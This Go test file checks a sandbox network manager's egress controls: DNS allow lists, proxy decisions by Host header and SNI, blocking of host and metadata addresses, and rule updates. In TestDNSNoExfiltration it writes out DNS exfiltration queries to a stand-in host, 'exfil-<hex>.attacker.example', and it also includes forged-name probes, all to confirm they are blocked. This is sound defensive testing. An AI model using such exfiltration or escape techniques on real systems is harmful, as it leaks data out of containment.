package network

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/netip"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/nftables"
	"github.com/miekg/dns"
	"github.com/sbxhq/sbx/api"
	"github.com/sbxhq/sbx/internal/network/nettest"
	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// These tests run the real thing as root: network namespaces, veth pairs,
// nftables, conntrack. A "sandbox" here is a bare network namespace made by
// Manager.Create (what runsc joins); the tests dial from inside it. The
// outside world is a namespace the test makes, with an HTTP and a TLS
// server on its own address, and a DNS upstream on loopback that knows its
// names. No packet leaves the machine.

// testManager starts a Manager with a tag and network of its own.
func testManager(t *testing.T, upstream string) *Manager {
	t.Helper()
	nettest.RequireRoot(t)
	// Test hosts live in these; nothing sent to them leaves the machine.
	for _, p := range []string{"10.232.0.0/16", "10.233.0.0/16", "169.254.77.0/24"} {
		nettest.Blackhole(t, netip.MustParsePrefix(p))
	}
	tag := fmt.Sprintf("t%d", os.Getpid()%1000)
	m, err := NewManager(Config{NetnsDir: t.TempDir(), CIDR: netip.MustParsePrefix("10.231.0.0/24"), Tag: tag, Upstream: upstream})
	must(t, err)
	must(t, m.Start())
	t.Cleanup(func() {
		for _, id := range slices.Collect(maps.Keys(m.byID)) {
			_ = m.Delete(id)
		}
		m.Close()
		_ = m.Remove()
		_ = unix.Unmount(m.cfg.NetnsDir, unix.MNT_DETACH)
	})
	return m
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func rules(t testing.TB, r api.NetworkRules) *Rules {
	t.Helper()
	p, err := ParseRules(r)
	must(t, err)
	return p
}

// client makes HTTP requests from inside a sandbox namespace, resolving
// names with the sandbox's resolver (any address on port 53).
type nsClient struct {
	t    testing.TB
	path string
}

func (c nsClient) dial(network, addr string) (net.Conn, error) {
	var conn net.Conn
	err := nettest.InNS(c.path, func() (err error) {
		conn, err = net.DialTimeout(network, addr, 2*time.Second)
		return err
	})
	return conn, err
}

func (c nsClient) lookup(name string) (*dns.Msg, error) {
	conn, err := c.dial("udp4", "10.231.0.1:53")
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(name), dns.TypeA)
	q.SetEdns0(1232, false)
	dc := &dns.Conn{Conn: conn}
	_ = conn.SetDeadline(time.Now().Add(3 * time.Second))
	if err := dc.WriteMsg(q); err != nil {
		return nil, err
	}
	return dc.ReadMsg()
}

// get fetches url, connecting to addr (as if DNS said so) whatever the URL
// names: the proxy must decide by the name, not by addr.
func (c nsClient) get(url, addr string) (int, string, error) {
	tr := &http.Transport{
		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return c.dial("tcp4", addr)
		},
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
	}
	defer tr.CloseIdleConnections()
	cl := &http.Client{Transport: tr, Timeout: 5 * time.Second}
	resp, err := cl.Get(url)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), nil
}

func TestEgressRules(t *testing.T) {
	nettest.RequireRoot(t)
	out := nettest.StartOutside(t, fmt.Sprintf("tob%d", os.Getpid()%10000), netip.MustParsePrefix("10.232.0.0/24"))
	other := netip.MustParseAddr("10.232.0.9") // nothing there
	up := nettest.StartUpstream(t, map[string]netip.Addr{
		"outside.test": out.Addr, "api.outside.test": out.Addr, "evil.test": out.Addr, "elsewhere.test": other,
		"loopback.test": netip.MustParseAddr("127.0.0.1"),
	}, nil, "")
	m := testManager(t, up.Addr)
	path, err := m.Create("sbx_aaaaaaaaaaaaaaaa", "one", rules(t, api.NetworkRules{Internet: true, Allow: []string{"outside.test", "*.outside.test"}}))
	must(t, err)
	c := nsClient{t, path}
	outHTTP := out.Addr.String() + ":80"
	outTLS := out.Addr.String() + ":443"

	t.Run("dns answers allowed names only", func(t *testing.T) {
		r, err := c.lookup("outside.test")
		must(t, err)
		if r.Rcode != dns.RcodeSuccess || len(r.Answer) != 1 {
			t.Fatalf("outside.test: %v", r)
		}
		r, err = c.lookup("evil.test")
		must(t, err)
		if r.Rcode != dns.RcodeNameError {
			t.Fatalf("evil.test answered: %v", r)
		}
		if opt := r.IsEdns0(); opt == nil || len(opt.Option) == 0 {
			t.Fatalf("refusal without an extended error: %v", r)
		}
	})
	t.Run("http by Host header", func(t *testing.T) {
		code, body, err := c.get("http://api.outside.test/", outHTTP)
		must(t, err)
		if code != 200 || body != "hello from api.outside.test" {
			t.Fatalf("allowed: %d %q", code, body)
		}
		code, body, err = c.get("http://evil.test/", outHTTP)
		must(t, err)
		if code != 403 || !strings.Contains(body, "evil.test") {
			t.Fatalf("denied name: %d %q", code, body)
		}
	})
	t.Run("tls by SNI", func(t *testing.T) {
		code, body, err := c.get("https://outside.test/", outTLS)
		must(t, err)
		if code != 200 || body != "hello from outside.test" {
			t.Fatalf("allowed: %d %q", code, body)
		}
		if _, _, err := c.get("https://evil.test/", outTLS); err == nil {
			t.Fatal("TLS to a denied name passed")
		}
	})
	t.Run("a forged name goes where the name resolves", func(t *testing.T) {
		// The client dials an address that is not outside.test's; the
		// proxy connects to outside.test's real address instead.
		code, body, err := c.get("http://outside.test/", other.String()+":80")
		must(t, err)
		if code != 200 || body != "hello from outside.test" {
			t.Fatalf("%d %q", code, body)
		}
	})
	t.Run("a forged SNI goes where the name resolves", func(t *testing.T) {
		code, body, err := c.get("https://outside.test/", other.String()+":443")
		must(t, err)
		if code != 200 || body != "hello from outside.test" {
			t.Fatalf("%d %q", code, body)
		}
	})
	t.Run("without a name, only allowed addresses", func(t *testing.T) {
		// TLS to an address (no SNI) outside the allow list; the address
		// was never answered by DNS for an allowed name.
		if _, _, err := c.get("https://"+other.String()+"/", other.String()+":443"); err == nil {
			t.Fatal("TLS to an address outside the allow list passed")
		}
		// An address that DNS answered for an allowed name passes, as it
		// does on other ports.
		code, _, err := c.get("https://"+out.Addr.String()+"/", outTLS)
		must(t, err)
		if code != 200 {
			t.Fatalf("learned address: %d", code)
		}
	})
	t.Run("names that resolve to the host are refused", func(t *testing.T) {
		must(t, m.Update("sbx_aaaaaaaaaaaaaaaa", rules(t, api.NetworkRules{Internet: true, Deny: []string{"evil.test"}})))
		code, body, err := c.get("http://loopback.test/", outHTTP)
		must(t, err)
		if code != 403 {
			t.Fatalf("loopback.test: %d %q", code, body)
		}
	})
	t.Run("other ports: open internet, then CIDR deny", func(t *testing.T) {
		ln := listenIn(t, out.NS, out.Addr.String()+":8080")
		conn, err := c.dial("tcp4", out.Addr.String()+":8080")
		must(t, err)
		conn.Close()
		<-ln
		must(t, m.Update("sbx_aaaaaaaaaaaaaaaa", rules(t, api.NetworkRules{Internet: true, Deny: []string{"10.232.0.0/24"}})))
		if conn, err := c.dial("tcp4", out.Addr.String()+":8080"); err == nil {
			conn.Close()
			t.Fatal("connected to a denied CIDR")
		}
	})
	t.Run("internet off", func(t *testing.T) {
		must(t, m.Update("sbx_aaaaaaaaaaaaaaaa", rules(t, api.NetworkRules{Internet: false})))
		if _, _, err := c.get("http://outside.test/", outHTTP); err == nil {
			t.Fatal("HTTP passed with internet off")
		}
		r, err := c.lookup("outside.test")
		must(t, err)
		if r.Rcode != dns.RcodeNameError {
			t.Fatalf("DNS answered with internet off: %v", r)
		}
	})
	t.Run("the host is out of reach", func(t *testing.T) {
		must(t, m.Update("sbx_aaaaaaaaaaaaaaaa", rules(t, api.NetworkRules{Internet: true})))
		// A service of the host on every address (like sbxd --listen).
		ln, err := net.Listen("tcp4", "0.0.0.0:0")
		must(t, err)
		defer ln.Close()
		port := ln.Addr().(*net.TCPAddr).Port
		gw, _ := m.slotAddrs(1)
		targets := []string{gw.String(), m.serviceAddr().String()}
		for _, a := range nettest.HostAddrs() {
			targets = append(targets, a.String())
		}
		for _, a := range targets {
			if conn, err := c.dial("tcp4", fmt.Sprintf("%s:%d", a, port)); err == nil {
				conn.Close()
				t.Errorf("reached the host at %s:%d", a, port)
			}
		}
		// The proxy's own port is not a way in either.
		if conn, err := c.dial("tcp4", fmt.Sprintf("%s:%d", gw, m.proxy.port)); err == nil {
			_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
			fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: %s:%d\r\n\r\n", gw, port)
			b, _ := io.ReadAll(conn)
			conn.Close()
			if strings.Contains(string(b), "200") {
				t.Errorf("reached the host through the proxy: %q", b)
			}
		}
	})
	t.Run("link-local (metadata) addresses are refused", func(t *testing.T) {
		meta := nettest.StartOutside(t, fmt.Sprintf("tom%d", os.Getpid()%10000), netip.MustParsePrefix("169.254.77.0/24"))
		for _, r := range []api.NetworkRules{{Internet: true}, {Internet: true, Deny: []string{"evil.test"}}} {
			must(t, m.Update("sbx_aaaaaaaaaaaaaaaa", rules(t, r)))
			if conn, err := c.dial("tcp4", meta.Addr.String()+":80"); err == nil {
				_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
				fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: %s\r\n\r\n", meta.Addr)
				b, _ := io.ReadAll(conn)
				conn.Close()
				if strings.Contains(string(b), "hello") {
					t.Errorf("rules %+v: reached a link-local address: %q", r, b)
				}
			}
		}
	})
	t.Run("audit log", func(t *testing.T) {
		l, err := m.Log("sbx_aaaaaaaaaaaaaaaa")
		must(t, err)
		seen := map[string]bool{}
		for _, e := range l.Refused {
			seen[e.Kind+" "+e.Destination] = true
		}
		for _, want := range []string{"dns evil.test", "http evil.test", "tls evil.test", "packet " + out.Addr.String()} {
			if !seen[want] {
				t.Errorf("audit log lacks %q: %+v", want, l.Refused)
			}
		}
		if l.Counts.DNSRefused == 0 || l.Counts.ConnectionsRefused == 0 || l.Counts.PacketsRefused == 0 || l.Counts.DNSAnswered == 0 {
			t.Errorf("counts: %+v", l.Counts)
		}
	})
}

// listenIn accepts one connection on addr inside a namespace.
func listenIn(t *testing.T, path, addr string) <-chan struct{} {
	t.Helper()
	var ln net.Listener
	must(t, nettest.InNS(path, func() (err error) {
		ln, err = net.Listen("tcp4", addr)
		return err
	}))
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer ln.Close()
		if c, err := ln.Accept(); err == nil {
			c.Close()
		}
	}()
	return done
}

func TestRulesChangeCutsConnections(t *testing.T) {
	nettest.RequireRoot(t)
	out := nettest.StartOutside(t, fmt.Sprintf("toc%d", os.Getpid()%10000), netip.MustParsePrefix("10.233.0.0/24"))
	up := nettest.StartUpstream(t, map[string]netip.Addr{"outside.test": out.Addr}, nil, "")
	m := testManager(t, up.Addr)
	id := "sbx_bbbbbbbbbbbbbbbb"
	path, err := m.Create(id, "two", rules(t, api.NetworkRules{Internet: true}))
	must(t, err)
	c := nsClient{t, path}
	// A forwarded connection (port 9000) that stays open.
	var ln net.Listener
	must(t, nettest.InNS(out.NS, func() (err error) {
		ln, err = net.Listen("tcp4", out.Addr.String()+":9000")
		return err
	}))
	defer ln.Close()
	go func() {
		for {
			s, err := ln.Accept()
			if err != nil {
				return
			}
			go io.Copy(s, s) // echo
		}
	}()
	conn, err := c.dial("tcp4", out.Addr.String()+":9000")
	must(t, err)
	defer conn.Close()
	echo := func() error {
		_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
		if _, err := conn.Write([]byte("ping")); err != nil {
			return err
		}
		b := make([]byte, 4)
		_, err := io.ReadFull(conn, b)
		return err
	}
	must(t, echo())
	start := time.Now()
	must(t, m.Update(id, rules(t, api.NetworkRules{Internet: false})))
	t.Logf("rules applied in %v", time.Since(start))
	if err := echo(); err == nil {
		t.Fatal("an open connection kept working after internet was turned off")
	}
}

func TestConnectAndCleanup(t *testing.T) {
	nettest.RequireRoot(t)
	m := testManager(t, nettest.StartUpstream(t, nil, nil, "").Addr)
	pa, err := m.Create("sbx_cccccccccccccccc", "client", rules(t, api.NetworkRules{Internet: false, Connect: []string{"server"}}))
	must(t, err)
	pb, err := m.Create("sbx_dddddddddddddddd", "server", rules(t, api.NetworkRules{Internet: false}))
	must(t, err)
	addrB, _ := m.Addr("sbx_dddddddddddddddd")
	addrA, _ := m.Addr("sbx_cccccccccccccccc")
	lnB := listenIn(t, pb, addrB.String()+":7000")
	a := nsClient{t, pa}
	r, err := a.lookup("server")
	must(t, err)
	if len(r.Answer) != 1 || r.Answer[0].(*dns.A).A.String() != addrB.String() {
		t.Fatalf("server's name: %v", r)
	}
	conn, err := a.dial("tcp4", addrB.String()+":7000")
	must(t, err)
	conn.Close()
	<-lnB
	// Not the other way: server has no connect rule for client.
	listenIn(t, pa, addrA.String()+":7001")
	if conn, err := (nsClient{t, pb}).dial("tcp4", addrA.String()+":7001"); err == nil {
		conn.Close()
		t.Fatal("server reached client without a connect rule")
	}

	for _, id := range []string{"sbx_cccccccccccccccc", "sbx_dddddddddddddddd"} {
		must(t, m.Delete(id))
	}
	links, _ := netlink.LinkList()
	for _, l := range links {
		if strings.HasPrefix(l.Attrs().Name, m.prefix) {
			t.Errorf("interface %s left behind", l.Attrs().Name)
		}
	}
	if ids, _ := listNamespaces(m.cfg.NetnsDir); len(ids) != 0 {
		t.Errorf("namespaces left behind: %v", ids)
	}
	routes, _ := netlink.RouteListFiltered(netlink.FAMILY_V4, &netlink.Route{Table: unix.RT_TABLE_UNSPEC}, netlink.RT_FILTER_TABLE)
	for _, r := range routes {
		if r.Dst != nil && m.cfg.CIDR.Contains(netip.MustParseAddr(r.Dst.IP.String())) && r.Type != unix.RTN_UNREACHABLE {
			t.Errorf("route left behind: %v", r)
		}
	}
	must(t, m.Remove())
	routes, _ = netlink.RouteListFiltered(netlink.FAMILY_V4, &netlink.Route{Table: unix.RT_TABLE_UNSPEC}, netlink.RT_FILTER_TABLE)
	for _, r := range routes {
		if r.Dst != nil && m.cfg.CIDR.Contains(netip.MustParseAddr(r.Dst.IP.String())) {
			t.Errorf("route left behind after Remove: %v", r)
		}
	}
	if tables, _ := listTables(); strings.Contains(tables, " "+m.cfg.Tag+" ") {
		t.Errorf("table left behind: %s", tables)
	}
}

// listTables lists nftables tables as " family name " words.
func listTables() (string, error) {
	c, err := nftables.New()
	if err != nil {
		return "", err
	}
	ts, err := c.ListTables()
	if err != nil {
		return "", err
	}
	var b strings.Builder
	for _, t := range ts {
		fmt.Fprintf(&b, " %d %s ", t.Family, t.Name)
	}
	return b.String(), nil
}

// fakeSandboxes are n firewall entries (no interfaces: the rules do not
// need them to exist).
func fakeSandboxes(t testing.TB, n int, r *Rules) map[string]*fwSandbox {
	t.Helper()
	sbs := map[string]*fwSandbox{}
	for i := 1; i <= n; i++ {
		name := fmt.Sprintf("tfw-%011d", i)
		sbs[name] = &fwSandbox{ifname: name, slot: i, addr: netip.AddrFrom4([4]byte{10, 235, byte(i / 64), byte(4*(i%64) + 2)}), rules: r}
	}
	return sbs
}

// TestFirewallManySandboxes: a table of 500 sandboxes is one batch of
// thousands of messages; it must go through (the default netlink buffers
// overflow past a few sandboxes), and so must a one-sandbox update.
func TestFirewallManySandboxes(t *testing.T) {
	nettest.RequireRoot(t)
	fw := newFirewall("tfw", "tfw-", netip.MustParsePrefix("10.235.0.0/16"), 5353, 5354)
	t.Cleanup(func() { _ = fw.deleteTable() })
	sbs := fakeSandboxes(t, 500, rules(t, api.NetworkRules{Internet: true, Allow: []string{"pypi.org"}, Deny: []string{"10.0.0.0/8"}}))
	start := time.Now()
	must(t, fw.setAll(sbs))
	t.Logf("full table of %d sandboxes in %v", len(sbs), time.Since(start))
	sb := *sbs["tfw-00000000007"]
	sb.rules = rules(t, api.NetworkRules{Internet: false})
	start = time.Now()
	must(t, fw.update(&sb, nil))
	t.Logf("one sandbox's update in %v", time.Since(start))
	extra := &fwSandbox{ifname: "tfw-extra000000", slot: 999, addr: netip.MustParseAddr("10.235.200.2"), rules: sb.rules}
	start = time.Now()
	must(t, fw.add(extra))
	t.Logf("one more sandbox added in %v", time.Since(start))
	if chains, err := listChains("tfw"); err != nil || strings.Count(chains, " sb-tfw-") != 501 {
		t.Fatalf("chains: %d, %v", strings.Count(chains, " sb-tfw-"), err)
	}
	start = time.Now()
	must(t, fw.remove(extra.ifname))
	t.Logf("and removed in %v", time.Since(start))
	if chains, err := listChains("tfw"); err != nil || strings.Count(chains, " sb-tfw-") != 500 || strings.Contains(chains, "extra") {
		t.Fatalf("chains after remove: %d, %v", strings.Count(chains, " sb-tfw-"), err)
	}
}

func listChains(table string) (string, error) {
	c, err := nftables.New()
	if err != nil {
		return "", err
	}
	chains, err := c.ListChainsOfTableFamily(nftables.TableFamilyINet)
	if err != nil {
		return "", err
	}
	var b strings.Builder
	for _, ch := range chains {
		if ch.Table.Name == table {
			b.WriteString(" " + ch.Name + " ")
		}
	}
	return b.String(), nil
}

// TestLearnedAddressesFollowRules: an address DNS answered for an allowed
// name stays open only while the rules allow that name; narrowing the
// rules closes it and cuts connections to it.
func TestLearnedAddressesFollowRules(t *testing.T) {
	nettest.RequireRoot(t)
	out := nettest.StartOutside(t, fmt.Sprintf("tol%d", os.Getpid()%10000), netip.MustParsePrefix("10.236.0.0/24"))
	up := nettest.StartUpstream(t, map[string]netip.Addr{"outside.test": out.Addr, "other.test": netip.MustParseAddr("10.236.0.9")}, nil, "")
	m := testManager(t, up.Addr)
	nettest.Blackhole(t, netip.MustParsePrefix("10.236.0.0/16"))
	id := "sbx_eeeeeeeeeeeeeeee"
	path, err := m.Create(id, "learner", rules(t, api.NetworkRules{Internet: true, Allow: []string{"outside.test"}}))
	must(t, err)
	c := nsClient{t, path}
	ln := out.Listen(t, 9000)
	go func() {
		for {
			s, err := ln.Accept()
			if err != nil {
				return
			}
			go io.Copy(s, s)
		}
	}()
	target := out.Addr.String() + ":9000"
	if conn, err := c.dial("tcp4", target); err == nil {
		conn.Close()
		t.Fatal("reached an address before DNS answered for it")
	}
	if r, err := c.lookup("outside.test"); err != nil || len(r.Answer) != 1 {
		t.Fatalf("lookup: %v %v", r, err)
	}
	conn, err := c.dial("tcp4", target)
	must(t, err)
	defer conn.Close()
	echo := func() error {
		_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
		if _, err := conn.Write([]byte("ping")); err != nil {
			return err
		}
		_, err := io.ReadFull(conn, make([]byte, 4))
		return err
	}
	must(t, echo())
	// Still allowed (the name stays in allow): the address stays open.
	must(t, m.Update(id, rules(t, api.NetworkRules{Internet: true, Allow: []string{"outside.test", "other.test"}})))
	must(t, echo())
	// The name leaves allow: the address closes and the stream is cut.
	must(t, m.Update(id, rules(t, api.NetworkRules{Internet: true, Allow: []string{"other.test"}})))
	if err := echo(); err == nil {
		t.Fatal("a stream to an address no longer allowed kept working")
	}
	if conn, err := c.dial("tcp4", target); err == nil {
		conn.Close()
		t.Fatal("a new connection to an address no longer allowed passed")
	}
}

// TestDNSNoExfiltration: a sandbox whose allow list is not empty cannot
// make sbxd carry a name it may not resolve to the upstream resolver (data
// encoded in the name, exfil-<data>.attacker.example), neither through
// the DNS server nor through the egress proxy's lookups of a Host or SNI.
// The upstream logs every name that reaches it.
func TestDNSNoExfiltration(t *testing.T) {
	nettest.RequireRoot(t)
	out := nettest.StartOutside(t, fmt.Sprintf("tox%d", os.Getpid()%10000), netip.MustParsePrefix("10.232.0.0/24"))
	up := nettest.StartUpstream(t, map[string]netip.Addr{"outside.test": out.Addr}, nil, "")
	m := testManager(t, up.Addr)
	const id = "sbx_eeeeeeeeeeeeeeee"
	path, err := m.Create(id, "exfil", rules(t, api.NetworkRules{Internet: true, Allow: []string{"10.232.0.0/24"}}))
	must(t, err)
	c := nsClient{t, path}
	leaked := func(t *testing.T, marker string) bool {
		t.Helper()
		for _, n := range up.Seen() {
			if strings.Contains(n, marker) {
				return true
			}
		}
		return false
	}

	t.Run("CIDR-only allow list: no name leaves", func(t *testing.T) {
		name := "exfil-736563726574.attacker.example"
		r, err := c.lookup(name)
		must(t, err)
		if r.Rcode != dns.RcodeNameError || len(r.Answer) != 0 {
			t.Errorf("%s: rcode %s, answer %v; want NXDOMAIN", name, dns.RcodeToString[r.Rcode], r.Answer)
		}
		if leaked(t, "attacker.example") {
			t.Fatalf("the name reached the upstream resolver: %v", up.Seen())
		}
		// The address itself stays reachable: the rule allows it.
		code, body, err := c.get("http://"+out.Addr.String()+"/", out.Addr.String()+":80")
		if err != nil || code != 200 || !strings.Contains(body, "hello") {
			t.Fatalf("an allowed CIDR: %d %q %v", code, body, err)
		}
	})
	t.Run("names and CIDRs: only the listed names leave", func(t *testing.T) {
		must(t, m.Update(id, rules(t, api.NetworkRules{Internet: true, Allow: []string{"outside.test", "10.232.0.0/24"}})))
		r, err := c.lookup("outside.test")
		must(t, err)
		if len(r.Answer) != 1 {
			t.Fatalf("outside.test: %v", r)
		}
		r, err = c.lookup("exfil-2.attacker.example")
		must(t, err)
		if r.Rcode != dns.RcodeNameError {
			t.Errorf("exfil-2: rcode %s", dns.RcodeToString[r.Rcode])
		}
		// The proxy reads the name of a connection to an allowed address
		// and must not look it up either.
		_, _, _ = c.get("http://exfil-3.attacker.example/", out.Addr.String()+":80")
		_, _, _ = c.get("https://exfil-4.attacker.example/", out.Addr.String()+":443")
		if leaked(t, "attacker.example") {
			t.Fatalf("a name reached the upstream resolver: %v", up.Seen())
		}
	})
	t.Run("refusals are in the network log", func(t *testing.T) {
		l, err := m.Log(id)
		must(t, err)
		found := false
		for _, e := range l.Refused {
			if e.Kind == "dns" && e.Destination == "exfil-736563726574.attacker.example" {
				found = true
			}
		}
		if !found {
			t.Errorf("no dns refusal of the exfil name in the log: %+v", l.Refused)
		}
	})
	t.Run("internet open without an allow list: names are forwarded as before", func(t *testing.T) {
		must(t, m.Update(id, rules(t, api.NetworkRules{Internet: true})))
		_, err := c.lookup("open-1.attacker.example")
		must(t, err)
		if !leaked(t, "open-1.attacker.example") {
			t.Fatalf("an open sandbox's query did not reach the upstream: %v", up.Seen())
		}
	})
}

// A stopped sbxd leaves its firewall (so that running sandboxes stay
// contained), and with it the numbers of its DNS and proxy ports. Those
// numbers go back to the kernel: a program that later listens on one on
// loopback, or connects out from one, must not find its packets dropped.
// (An e2e run lost a test this way: another sbxd's API port on 127.0.0.1
// was a dead sbxd's proxy port, and connects timed out.)
func TestStoppedFirewallFreesItsPorts(t *testing.T) {
	nettest.RequireRoot(t)
	m := testManager(t, nettest.StartUpstream(t, nil, nil, "").Addr)
	out := nettest.StartOutside(t, "tfree-out", netip.MustParsePrefix("10.232.9.0/30"))
	proxyPort, dnsPort := m.proxy.port, m.dns.port
	// While sbxd runs, another host cannot reach its proxy or DNS server.
	hostSide := out.Addr.Prev()
	for _, p := range []uint16{proxyPort, dnsPort} {
		err := nettest.InNS(out.NS, func() error {
			c, err := net.DialTimeout("tcp4", netip.AddrPortFrom(hostSide, p).String(), time.Second)
			if err == nil {
				c.Close()
			}
			return err
		})
		if err == nil {
			t.Fatalf("a host outside reached sbxd's port %d", p)
		}
	}
	m.Close()

	ln, err := net.Listen("tcp4", fmt.Sprintf("127.0.0.1:%d", proxyPort))
	must(t, err)
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	c, err := net.DialTimeout("tcp4", ln.Addr().String(), 3*time.Second)
	if err != nil {
		t.Fatalf("loopback listener on the stopped sbxd's proxy port %d: %v", proxyPort, err)
	}
	c.Close()

	d := net.Dialer{Timeout: 3 * time.Second, LocalAddr: &net.TCPAddr{Port: int(dnsPort)}}
	c, err = d.Dial("tcp4", netip.AddrPortFrom(out.Addr, 80).String())
	if err != nil {
		t.Fatalf("connection out from the stopped sbxd's DNS port %d: %v", dnsPort, err)
	}
	c.Close()
}
